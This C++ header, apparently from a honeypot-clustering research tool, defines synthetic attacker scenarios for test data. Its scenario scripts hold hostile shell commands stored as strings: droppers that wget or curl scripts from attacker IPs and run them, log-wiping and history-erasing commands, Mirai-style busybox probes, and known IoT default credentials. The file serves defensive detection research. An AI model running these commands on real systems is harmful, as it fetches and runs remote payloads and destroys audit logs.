// SPDX-License-Identifier: Apache-2.0

#ifndef HONEYCLUST_SYNTH_SCENARIOS_HPP
#define HONEYCLUST_SYNTH_SCENARIOS_HPP

#include <string>
#include <vector>

#include "honeyclust/core/errors.hpp"
#include "honeyclust/features/intervals.hpp"
#include "honeyclust/synth/generator.hpp"

namespace honeyclust::synth {

struct Scenario {
  std::string name;
  std::vector<OperatorSpec> operators;
  NoiseSpec noise;
  std::string region = "lab";
  // window sizing that matches the scenario's time scale
  features::IntervalConfig interval_config;
};

namespace detail {

inline std::vector<profile::Credential> cred_list(const std::string& stem, int n) {
  std::vector<profile::Credential> out;
  for (int i = 0; i < n; ++i)
    out.push_back({stem, stem + "-K" + std::to_string(i) + "!x"});
  return out;
}

inline OperatorSpec base_operator(const std::string& id, Instant start, Instant end) {
  OperatorSpec op;
  op.operator_id = id;
  op.n_ips = 10;
  op.active_start = start;
  op.active_end = end;
  return op;
}

inline Instant t0() { return parse_rfc3339("2020-06-01T00:00:00Z").value(); }

}  // namespace detail

/// Five well-separated operators: distinct credential lists, scripts, targets
/// and periods, plus 200 one-shot background scanners.
inline Scenario scenario_easy() {
  using namespace detail;
  Scenario sc;
  sc.name = "easy";
  const Instant start = t0(), end = start + 3 * kDay;

  auto op1 = base_operator("op-dropper", start, end);
  op1.credential_list = cred_list("svc-a", 8);
  op1.scan_period_s = 3600;
  op1.jitter = 0.05;
  op1.script = {"cd /tmp",
                "rm -f *.sh",
                "wget http://45.9.1.10/wget.sh || curl http://45.9.1.10/curl.sh -o curl.sh",
                "chmod +x *.sh",
                "./wget.sh",
                "./curl.sh"};
  op1.outbound_targets = {{"45.9.1.10", 4444}};

  auto op2 = base_operator("op-proxy", start, end);
  op2.credential_list = cred_list("media-b", 10);
  op2.scan_period_s = 5400;
  op2.jitter = 0.08;
  op2.script = {"uname -a", "nproc", "free -m", "curl http://api.clickfarm.example/reg",
                "ps -ef | grep [Mm]iner"};
  op2.outbound_targets = {{"api.clickfarm.example", 8080}};

  auto op3 = base_operator("op-recon", start, end);
  op3.credential_list = cred_list("iot-c", 6);
  op3.scan_period_s = 2700;
  op3.jitter = 0.04;
  op3.script = {"cat /proc/cpuinfo", "ifconfig", "ip a", "uname -m", "ls -la /home"};
  op3.outbound_targets = {{"203.0.113.77", 9999}};

  auto op4 = base_operator("op-wiper", start, end);
  op4.credential_list = cred_list("root-d", 12);
  op4.scan_period_s = 7200;
  op4.jitter = 0.10;
  op4.script = {"unset HISTORY HISTFILE HISTSAVE", "history -n",
                "rm -rf /var/log/wtmp ; rm -rf /var/log/lastlog", "touch /var/log/wtmp",
                "uname -r", "cat /proc/version"};
  op4.outbound_targets = {{"198.51.100.3", 48101}};

  auto op5 = base_operator("op-sharing", start, end);
  op5.credential_list = cred_list("shared-e", 7);
  op5.scan_period_s = 4500;
  op5.jitter = 0.06;
  op5.script = {"id", "whoami", "wget http://192.0.2.200/won.sh", "chmod 777 won.sh",
                "./won.sh"};
  op5.outbound_targets = {{"192.0.2.200", 5555}};
  op5.share_credentials = true;
  op5.human_fraction = 0.3;

  sc.operators = {op1, op2, op3, op4, op5};
  sc.noise.background_ips = 200;
  sc.noise.rng_seed = 42;
  sc.interval_config.window_length = 14 * kDay;
  sc.interval_config.bin_width = 60 * kSecond;
  sc.interval_config.dtw_band = 60;
  return sc;
}

/// Credential overlap: two operators run the same tiny credential list (below
/// the heuristic threshold), two more share a large common block with only a
/// few uniques and per-IP subsetting. The credential-list feature blurs them;
/// scripts, targets and periods still separate.
inline Scenario scenario_overlap() {
  using namespace detail;
  Scenario sc = scenario_easy();
  sc.name = "overlap";
  sc.noise.rng_seed = 1337;

  // operators 0 and 1 share one identical 4-credential list
  auto tiny = cred_list("twin", 4);
  sc.operators[0].credential_list = tiny;
  sc.operators[1].credential_list = tiny;

  // operators 2 and 3 share a 30-credential common block + 4 uniques each
  std::vector<profile::Credential> block;
  {
    const auto& common = profile::common_credentials();
    auto it = common.begin();
    for (int i = 0; i < 30 && it != common.end(); ++i, ++it) block.push_back(*it);
  }
  auto op3_list = block;
  for (auto& c : cred_list("blk-c", 4)) op3_list.push_back(c);
  auto op4_list = block;
  for (auto& c : cred_list("blk-d", 4)) op4_list.push_back(c);
  sc.operators[2].credential_list = op3_list;
  sc.operators[3].credential_list = op4_list;

  sc.noise.background_ips = 150;
  return sc;
}

/// Churn and NAT: 30% of each fleet is replaced per window, one IP serves two
/// operators at once. Scripts are short (below the heuristic command rule) so
/// grouping leans on credentials, and outbound goes to web ports.
inline Scenario scenario_churn() {
  using namespace detail;
  Scenario sc;
  sc.name = "churn";
  const Instant start = t0(), end = start + 3 * kDay;

  const char* stems[5] = {"fleet-a", "fleet-b", "fleet-c", "fleet-d", "fleet-e"};
  const double periods[5] = {3600, 5400, 2700, 7200, 4500};
  const char* hosts[5] = {"one.cdn.example", "two.cdn.example", "three.cdn.example",
                          "four.cdn.example", "five.cdn.example"};
  for (int i = 0; i < 5; ++i) {
    auto op = base_operator(std::string("op-") + stems[i], start, end);
    op.credential_list = cred_list(stems[i], 7 + i);
    op.scan_period_s = periods[i];
    op.jitter = 0.07;
    op.script = {"uname -a", "nproc", "id"};  // short on purpose
    op.outbound_targets = {{hosts[i], i % 2 ? 443 : 80}};
    sc.operators.push_back(op);
  }
  sc.noise.churn_rate = 0.3;
  sc.noise.churn_window = kDay;
  sc.noise.nat_overlap = 1;
  sc.noise.background_ips = 100;
  sc.noise.rng_seed = 7;
  sc.interval_config.window_length = 14 * kDay;
  return sc;
}

/// Mirai-flavored fixtures: real command sequences seen in the wild, shared
/// credential lists with the usual IoT defaults.
inline Scenario scenario_mirai_like() {
  using namespace detail;
  Scenario sc;
  sc.name = "mirai-like";
  const Instant start = t0(), end = start + 2 * kDay;

  auto nippon = base_operator("op-nippon", start, end);
  nippon.n_ips = 6;
  nippon.credential_list = {{"root", "xc3511"}, {"root", "vizxv"}, {"root", "juantech"},
                            {"root", "xmhdipc"}, {"root", "anko"}, {"admin", "7ujMko0admin"}};
  nippon.scan_period_s = 1800;
  nippon.jitter = 0.05;
  nippon.script = {"/gisdfoewrsfdf", "/bin/busybox cp; /gisdfoewrsfdf", "mount ;/gisdfoewrsfdf",
                   "echo -e '\\x47\\x72\\x6f\\x70/' > //.nippon; cat //.nippon; rm -f //.nippon",
                   "cat /bin/echo ;/gisdfoewrsfdf"};
  nippon.outbound_targets = {};

  auto microtik = base_operator("op-microtik", start, end);
  microtik.n_ips = 6;
  microtik.credential_list = {{"admin", "1qaz@WSX"}, {"admin", "mikrotik"},
                              {"root", "D13HH["}, {"admin", "Pass-router9"},
                              {"root", "router-Zz1"}};
  microtik.scan_period_s = 2400;
  microtik.jitter = 0.06;
  microtik.script = {"/ip cloud print", "ifconfig", "uname -a", "cat /proc/cpuinfo",
                     "ps | grep [Mm]iner", "echo Hi | cat -n"};

  auto dropper = base_operator("op-dropper46", start, end);
  dropper.n_ips = 6;
  dropper.credential_list = cred_list("dr46", 6);
  dropper.scan_period_s = 3000;
  dropper.jitter = 0.04;
  dropper.script = {
      "cd /tmp; rm -f *.sh; wget http://46.246.41.29/wget.sh || "
      "curl http://46.246.41.29/curl.sh -o curl.sh; chmod +x *.sh; ./wget.sh; ./curl.sh",
      "uname"};
  dropper.outbound_targets = {{"46.246.41.29", 80}};

  sc.operators = {nippon, microtik, dropper};
  sc.noise.background_ips = 40;
  sc.noise.rng_seed = 99;
  sc.interval_config.window_length = 14 * kDay;
  return sc;
}

inline std::vector<std::string> scenario_names() {
  return {"easy", "overlap", "churn", "mirai-like"};
}

inline Scenario scenario_by_name(const std::string& name) {
  if (name == "easy") return scenario_easy();
  if (name == "overlap") return scenario_overlap();
  if (name == "churn") return scenario_churn();
  if (name == "mirai-like") return scenario_mirai_like();
  throw ConfigError("unknown scenario: " + name);
}

}  // namespace honeyclust::synth

#endif  // HONEYCLUST_SYNTH_SCENARIOS_HPP
